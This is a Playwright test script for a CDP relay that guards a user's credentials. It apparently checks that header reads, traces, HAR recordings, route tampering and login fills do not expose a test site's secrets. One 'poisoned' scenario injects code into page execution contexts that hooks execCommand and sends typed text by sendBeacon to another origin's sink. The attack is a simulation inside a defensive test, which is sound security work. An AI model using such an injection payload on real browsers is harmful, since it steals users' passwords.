// Playwright against the logged-in test site (internal/testenv's Site),
// through the relay: what it reads of the person's credentials, what it
// records (a trace, a HAR), what its routes do with the headers they read,
// and a secret typed by reference. It writes what it saw to
// <out>/report.json for the Go test, which checks it and searches it (and
// every frame the client received) for the person's credentials. Usage:
//   node secrets-playwright.mjs <scenario> <endpoint> <main origin> <other origin> <out dir>
// scenario: headers | recordings | routes | login | refused | poisoned
import { writeFileSync } from 'node:fs';
import { chromium } from 'playwright-core';

const [scenario, endpoint, main, other, out] = process.argv.slice(2);
const step = (s) => console.log('ok -', s);
const report = {};

const browser = await chromium.connectOverCDP(endpoint, { timeout: 20000 });
const context = browser.contexts()[0];
const page = await context.newPage();

// Every request's headers as Playwright reads them: allHeaders() and
// headersArray() come from Chrome's ExtraInfo events.
const reads = [];
const pending = [];
const failed = [];
const watchHeaders = () => page.on('requestfailed', (req) => failed.push(req.url())).on('requestfinished', (req) => pending.push((async () => {
  const resp = await req.response();
  reads.push({
    url: req.url(),
    request: await req.allHeaders(),
    requestArray: await req.headersArray(),
    cookie: await req.headerValue('cookie'),
    response: resp ? await resp.allHeaders() : null,
    responseArray: resp ? await resp.headersArray() : null,
    setCookie: resp ? await resp.headerValue('set-cookie') : null,
  });
})()));
const settle = async () => {
  await page.waitForTimeout(300);
  await Promise.all(pending);
  console.log('finished:', reads.map((r) => r.url).join(' '), 'failed:', failed.join(' '));
  report.reads = reads;
};
// The site, used as a page would: its API, a rotation of the session, a
// page behind Basic, a WebSocket.
// Bodies are read to the end: a response left unread counts as failed.
const useSite = () => page.evaluate(async () => ({
  api: await (await fetch('/secure/api')).text(),
  rotate: await fetch('/secure/rotate').then(async (r) => { await r.text(); return r.status; }),
  after: await (await fetch('/secure/api')).text(),
  basic: await fetch('/basic/page').then(async (r) => { await r.text(); return r.status; }),
  ws: await new Promise((resolve) => {
    const ws = new WebSocket(`ws://${location.host}/secure/ws`);
    ws.onmessage = (e) => { resolve(e.data); ws.close(); };
    ws.onerror = () => resolve('error');
  }),
}));
const frameFetch = async () => {
  await page.goto(`${main}/secure/login.html?other=${other}`);
  const frame = page.frames().find((f) => f.url().startsWith(other));
  await frame.waitForLoadState();
  return frame.evaluate(() => fetch('/secure/api').then((r) => r.text()));
};

switch (scenario) {
  case 'headers': {
    watchHeaders();
    // A raw session on the page, and one on the browser, beside
    // Playwright's own.
    const cdp = await context.newCDPSession(page);
    report.raw = [];
    for (const ev of ['Network.requestWillBeSentExtraInfo', 'Network.responseReceivedExtraInfo', 'Network.webSocketWillSendHandshakeRequest']) {
      cdp.on(ev, (params) => report.raw.push({ ev, params }));
    }
    await cdp.send('Network.enable');
    const bs = await browser.newBrowserCDPSession();
    report.targets = (await bs.send('Target.getTargets')).targetInfos.length;
    await page.goto(`${main}/secure/home`);
    report.state = await page.textContent('#state');
    report.site = await useSite();
    report.frame = await frameFetch();
    await settle();
    await bs.detach();
    await cdp.detach();
    step(`headers of ${reads.length} requests read`);
    break;
  }
  case 'recordings': {
    await context.tracing.start({ screenshots: true, snapshots: true });
    await page.routeFromHAR(`${out}/recorded.har`, { update: true, url: /\/(secure|basic)\// });
    await page.goto(`${main}/secure/home`);
    report.state = await page.textContent('#state');
    report.site = await useSite();
    report.frame = await frameFetch();
    await context.tracing.stop({ path: `${out}/trace.zip` });
    step('trace saved');
    // The HAR is written when its context closes: with connectOverCDP that
    // is the default context, and the person's tabs stay open.
    await page.close();
    await context.close();
    step('HAR saved');
    break;
  }
  case 'routes': {
    await page.goto(`${main}/secure/home`);
    report.routes = {};
    await page.route('**/secure/api?**', async (route) => {
      const req = route.request();
      const mode = new URL(req.url()).searchParams.get('mode');
      const all = await req.allHeaders();
      try {
        switch (mode) {
          case 'continue-all-headers': await route.continue({ headers: all }); break;
          case 'continue-headers': await route.continue({ headers: req.headers() }); break;
          case 'continue': await route.continue(); break;
          case 'fetch-all-headers': await route.fulfill({ response: await route.fetch({ headers: all }) }); break;
          case 'fetch': await route.fulfill({ response: await route.fetch() }); break;
          case 'fulfill-set-cookie': await route.fulfill({ status: 200, headers: { 'set-cookie': 'sid=planted; Path=/; HttpOnly' }, body: '{}' }); break;
          case 'continue-made-up-cookie': await route.continue({ headers: { ...all, cookie: 'sid=made-up' } }); break;
          case 'continue-other-marker': await route.continue({ headers: { ...all, cookie: 'cdprelay-redacted:5' } }); break;
        }
        report.routes[mode] = 'ok';
        console.log('route', mode, 'ok');
      } catch (e) {
        report.routes[mode] = `error: ${e.message}`;
        console.log('route', mode, e.message);
        await route.abort().catch(() => {});
      }
    });
    report.answers = {};
    for (const mode of ['continue-all-headers', 'continue-headers', 'continue', 'fetch-all-headers', 'fetch', 'fulfill-set-cookie', 'continue-made-up-cookie', 'continue-other-marker']) {
      // A request left paused would never answer: give up after 3 s.
      report.answers[mode] = await page.evaluate((m) => Promise.race([
        fetch(`/secure/api?mode=${m}`).then((r) => r.text(), (e) => `failed: ${e}`),
        new Promise((resolve) => setTimeout(() => resolve('no answer'), 3000)),
      ]), mode);
    }
    await page.unroute('**/secure/api?**');
    step(`routes: ${JSON.stringify(report.routes)}`);
    break;
  }
  case 'login': {
    // Network's own record of the posts, for Network.getRequestPostData.
    const cdp = await context.newCDPSession(page);
    const ids = {};
    cdp.on('Network.requestWillBeSent', (e) => { ids[new URL(e.request.url).pathname] = e.requestId; });
    await cdp.send('Network.enable');
    // A trace with DOM snapshots: they hold the fields' values.
    await context.tracing.start({ screenshots: true, snapshots: true });
    await page.goto(`${main}/secure/login.html`);
    await page.fill('#password', '{{secret:site}}');
    report.inputValue = await page.inputValue('#password');
    report.evaluated = await page.evaluate(() => document.querySelector('#password').value);
    report.echoed = await page.evaluate(() => fetch('/secure/echo', { method: 'POST', body: new URLSearchParams({ password: document.querySelector('#password').value }) }).then((r) => r.text()));
    const [req] = await Promise.all([page.waitForRequest('**/secure/login'), page.click('#submit')]);
    await page.waitForLoadState();
    report.state = await page.textContent('#state');
    report.postData = req.postData();
    report.postDataBuffer = req.postDataBuffer()?.toString('base64');
    report.getRequestPostData = await cdp.send('Network.getRequestPostData', { requestId: ids['/secure/login'] }).catch((e) => `error: ${e.message}`);
    // A page that shows the password it was posted.
    await page.goto(`${main}/secure/login.html`);
    await page.fill('#password', '{{secret:site}}');
    await page.evaluate(() => { document.getElementById('login').action = '/secure/echo'; });
    await Promise.all([page.waitForURL('**/secure/echo'), page.click('#submit')]);
    report.echoPage = await page.textContent('#echo');
    report.echoContent = await page.content();
    await context.tracing.stop({ path: `${out}/trace.zip` });
    await cdp.detach();
    step(`logged in with a secret by reference: ${report.state}`);
    break;
  }
  case 'refused': {
    // Playwright retries a fill whose typing fails until its timeout; the
    // relay's reason is in the page's console, as a warning.
    report.console = [];
    page.on('console', (m) => {
      if (m.type() === 'warning') report.console.push(m.text());
    });
    const attempt = async (what, fill) => {
      try {
        await fill();
        report[what] = 'typed';
      } catch (e) {
        report[what] = e.message;
      }
    };
    await page.goto(`${other}/secure/login.html`);
    await attempt('otherOrigin', () => page.fill('#password', '{{secret:site}}', { timeout: 2000 }));
    report.otherOriginValue = await page.inputValue('#password');
    await page.goto(`${main}/secure/login.html?other=${other}`);
    const inner = page.frameLocator('#f').locator('#inner');
    await attempt('frame', () => inner.fill('{{secret:site}}', { timeout: 2000 }));
    report.frameValue = await inner.inputValue();
    await attempt('partial', () => page.fill('#password', 'x{{secret:site}}', { timeout: 2000 }));
    report.partialValue = await page.inputValue('#password');
    step(`refused: ${JSON.stringify(report)}`);
    break;
  }
  case 'poisoned': {
    // A client that fills once, then from a raw session of its own
    // poisons every world it can reach in the page so that typing there
    // sends the text to the other origin, watches the debugger's scripts
    // and reads their sources, and fills again.
    const cdp = await context.newCDPSession(page);
    const scripts = [];
    cdp.on('Debugger.scriptParsed', (e) => scripts.push(e.scriptId));
    await cdp.send('Runtime.enable');
    await cdp.send('Debugger.enable');
    await page.goto(`${main}/secure/login.html`);
    await page.fill('#password', '{{secret:site}}');
    const poison = `(() => {
      const exec = Document.prototype.execCommand;
      Document.prototype.execCommand = function (c, u, v) { navigator.sendBeacon(${JSON.stringify(other + '/secure/sink')}, String(v)); return exec.call(this, c, u, v); };
      return 'poisoned';
    })()`;
    let ran = 0;
    const tryIn = (p) => p.then((r) => { if (r.result && r.result.value === 'poisoned') ran++; }, () => {});
    for (let id = 1; id <= 60; id++) await tryIn(cdp.send('Runtime.evaluate', { expression: poison, contextId: id, returnByValue: true }));
    const { frameTree } = await cdp.send('Page.getFrameTree');
    for (const name of ['cdprelay', 'cdprelay-']) {
      await cdp.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id, worldName: name })
        .then(({ executionContextId }) => tryIn(cdp.send('Runtime.evaluate', { expression: poison, contextId: executionContextId, returnByValue: true })), () => {});
      await cdp.send('Page.addScriptToEvaluateOnNewDocument', { source: poison, worldName: name, runImmediately: true }).catch(() => {});
    }
    report.poisoned = ran;
    await page.fill('#password', '');
    await page.fill('#password', '{{secret:site}}');
    report.value = await page.inputValue('#password');
    report.sources = [];
    for (const scriptId of scripts) {
      report.sources.push(await cdp.send('Debugger.getScriptSource', { scriptId }).then((r) => r.scriptSource, (e) => `error: ${e.message}`));
    }
    await cdp.send('Debugger.disable');
    await cdp.detach();
    step(`poisoned ${ran} worlds, filled: ${report.value}; read ${scripts.length} sources`);
    break;
  }
  default:
    throw new Error(`unknown scenario ${scenario}`);
}

writeFileSync(`${out}/report.json`, JSON.stringify(report, null, 1));
if (!page.isClosed()) await page.close();
await browser.close();
